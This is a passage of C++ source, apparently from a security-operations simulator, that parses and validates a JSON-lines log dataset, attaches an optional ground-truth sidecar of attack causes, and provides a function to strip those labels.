    if (!in) throw std::runtime_error("cannot open " + path.string());

    LogDataset ds;
    std::string line;
    std::size_t lineno = 0;
    std::size_t expected = 0;
    auto parse_line = [&](const std::string& text) {
        try {
            return nlohmann::json::parse(text);
        } catch (const nlohmann::json::parse_error& e) {
            throw DatasetFormatError(lineno, std::string("malformed record: ") + e.what());
        }
    };

    if (!std::getline(in, line)) throw DatasetFormatError(1, "missing header");
    lineno = 1;
    try {
        const auto header = parse_line(line);
        detail::ObjectReader r(header, "");
        ds.schema = r.required<std::string>("schema");
        if (ds.schema != kDatasetSchema) throw detail::JsonFieldError("schema", "unsupported schema");
        ds.fingerprint = r.required<std::string>("fingerprint");
        ds.seed = r.required<std::uint64_t>("seed");
        expected = r.required<std::size_t>("event_count");
        ds.attack_start = r.required<SimTime>("attack_start");
        ds.run_end = r.required<SimTime>("run_end");
        r.finish();
    } catch (const detail::JsonFieldError& e) {
        throw DatasetFormatError(lineno, e.what());
    }

    ds.events.reserve(expected);
    while (std::getline(in, line)) {
        ++lineno;
        if (ds.events.size() == expected) {
            throw DatasetFormatError(lineno, "more records than the header's event_count");
        }
        try {
            ds.events.push_back(event_from_json(parse_line(line)));
        } catch (const detail::JsonFieldError& e) {
            throw DatasetFormatError(lineno, e.what());
        }
    }
    if (ds.events.size() != expected) {
        throw DatasetFormatError(lineno + 1, "truncated: expected " + std::to_string(expected) +
                                                 " events, found " + std::to_string(ds.events.size()));
    }

    const auto sidecar = truth_path(path);
    const bool found = std::filesystem::exists(sidecar);
    if (has_truth) *has_truth = found;
    if (!found) return ds;

    std::ifstream tin(sidecar, std::ios::binary);
    nlohmann::json truth;
    try {
        truth = nlohmann::json::parse(tin);
        detail::ObjectReader r(truth, "");
        if (r.required<std::string>("schema") != kTruthSchema) {
            throw detail::JsonFieldError("schema", "unsupported truth schema");
        }
        if (r.required<std::string>("fingerprint") != ds.fingerprint) {
            throw detail::JsonFieldError("fingerprint", "sidecar belongs to another dataset");
        }
        ds.ground_truth = chain_from_json(r.raw("chain"));
        for (const auto& c : detail::require_array(r.raw("causes"), "causes")) {
            const auto idx = c.at(0).get<std::size_t>();
            if (idx >= ds.events.size()) throw detail::JsonFieldError("causes", "index out of range");
            ds.events[idx].cause = c.at(1).get<std::string>();
        }
        r.finish();
    } catch (const nlohmann::json::exception& e) {
        throw std::runtime_error(sidecar.string() + ": " + e.what());
    } catch (const detail::JsonFieldError& e) {
        throw std::runtime_error(sidecar.string() + ": " + e.what());
    } catch (const std::invalid_argument& e) {
        throw std::runtime_error(sidecar.string() + ": " + e.what());
    }
    return ds;
}

LogDataset strip_causes(LogDataset ds)
{
    for (auto& e : ds.events) e.cause.reset();
    return ds;
}

} // namespace socsim
